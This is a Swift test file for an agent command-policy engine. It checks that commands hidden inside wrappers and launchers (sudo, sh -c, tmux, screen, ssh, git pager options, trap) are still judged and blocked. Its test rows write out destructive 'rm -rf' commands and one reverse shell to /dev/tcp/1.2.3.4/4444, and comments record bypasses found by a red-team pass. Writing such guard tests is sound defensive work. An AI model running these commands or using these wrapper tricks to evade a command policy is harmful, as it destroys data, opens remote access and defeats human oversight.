import AgentPolicy
import XCTest

/// Wrappers and launchers are seen through: what they run is judged as a command of its own
/// (`Evaluation/Wrappers.swift`, `Evaluation/Launchers.swift`,
/// `Evaluation/DetachedLaunchers.swift`). Guarded mode unless said otherwise.
final class WrapperAndLauncherTests: XCTestCase {
    func testWrappersAreSeenThrough() {
        assertDecisions([
            ("sudo rm -rf /etc", .block), ("sudo -u root -E rm -rf /etc", .block), ("doas rm -rf /etc", .block),
            ("env rm -rf /etc", .block),
            ("env -i X=1 rm -rf /etc", .block), ("command rm -rf /etc", .block), ("builtin exec rm -rf /etc", .block),
            ("exec rm -rf /etc", .block),
            ("nice -n 5 rm -rf /etc", .block), ("nohup rm -rf /etc", .block), ("time rm -rf /etc", .block),
            ("timeout -s KILL 5 rm -rf /etc", .block), ("stdbuf -oL rm -rf /etc", .block), ("ionice -c3 rm -rf /etc", .block),
            ("chroot /mnt rm -rf /etc", .block), ("watch 'rm -rf /etc'", .block), ("echo / | xargs rm -rf", .block),
            ("ls | xargs -0 rm", .needsConfirmation), ("find . -exec rm -rf /etc \\;", .block), ("sh -c 'rm -rf /etc'", .block),
            ("bash -lc 'rm -rf /etc'", .block), ("zsh -c \"rm -rf /etc\"", .block), ("su -c 'rm -rf /etc'", .block),
            ("sudo bash -c 'sudo rm -rf /etc'", .block), ("sudo ls", .allow), ("setsid rm -rf /etc", .block),
            ("strace -f rm -rf /etc", .block),
            ("script -c 'rm -rf /etc'", .block), ("sudo -i", .block), ("su", .block), ("env /bin/sh", .block),
            ("nice /bin/sh", .block),
            ("script -q /dev/null", .block), ("vi -c ':!rm -rf /etc' x", .block), ("git -c core.pager='rm -rf /etc' log", .block),
            ("tar -cf x.tar --to-command='rm -rf /etc' x", .block), ("ssh -o ProxyCommand='rm -rf /etc' h", .block),
            ("rsync -e 'rm -rf /etc' a b:", .block), ("A=1 sudo ls", .allow),
        ])
    }

    func testShellsWithAndWithoutCode() {
        assertDecisions([
            ("bash", .block), ("sh -s", .block), ("bash script.sh", .allow), ("bash -c 'git status'", .allow),
        ])
    }

    /// Found by a red-team pass (session 2) and fixed; every row got `allow` before the fix.
    ///
    /// Launchers that run a command out of sight: terminal multiplexers, `fd -x`, privilege and
    /// session launchers.
    func testLaunchersThatRunOutOfSight() {
        assertDecisions([
            ("screen -dmS job bash -c 'rm -rf ~'", .block), ("screen -dm rm -rf ~", .block),
            ("tmux new-session -d -s job 'rm -rf ~'", .block),
            ("tmux send-keys -t job 'rm -rf ~' Enter", .block), ("tmux new -d 'bash -i >& /dev/tcp/1.2.3.4/4444 0>&1'", .block),
            ("fd -e tmp -x rm", .needsConfirmation), ("fd . -X rm -rf", .needsConfirmation), ("run0 rm -rf ~", .block),
            ("capsh -- -c 'rm -rf ~'", .block), ("cgexec -g cpu:x rm -rf ~", .block), ("xvfb-run rm -rf ~", .block),
        ])
    }

    /// From the red-team pass (session 2): what its fixes must leave alone.
    func testEverydayMultiplexerAndXargsUse() {
        assertDecisions([
            ("tmux new -d -s build 'make -j4'", .allow), ("tmux ls", .allow), ("screen -ls", .allow), ("fd -e py", .allow),
            ("xargs -I{} echo {} < list.txt", .allow),
        ])
    }

    /// Commands a security review found slipping through; each row now holds.
    func testLaunchersAndRemoteCommands() {
        assertDecisions([
            ("sg root -c 'rm -rf /etc'", .block), ("parallel rm -rf ::: /etc", .block), ("toybox rm -rf /etc", .block),
            ("ssh host 'rm -rf /'", .block), ("ssh host uptime", .allow), ("less +'!rm -rf /etc' f", .block),
            ("docker exec web rm -rf /data", .needsConfirmation), ("kubectl exec -it x -- rm -rf /etc", .block),
        ])
    }

    /// Found by comparing with a second, independently written engine.
    func testTrapRunsItsCommand() {
        assertDecisions([
            ("trap 'rm -rf /' EXIT", .block), ("trap - EXIT", .allow),
        ])
    }
}
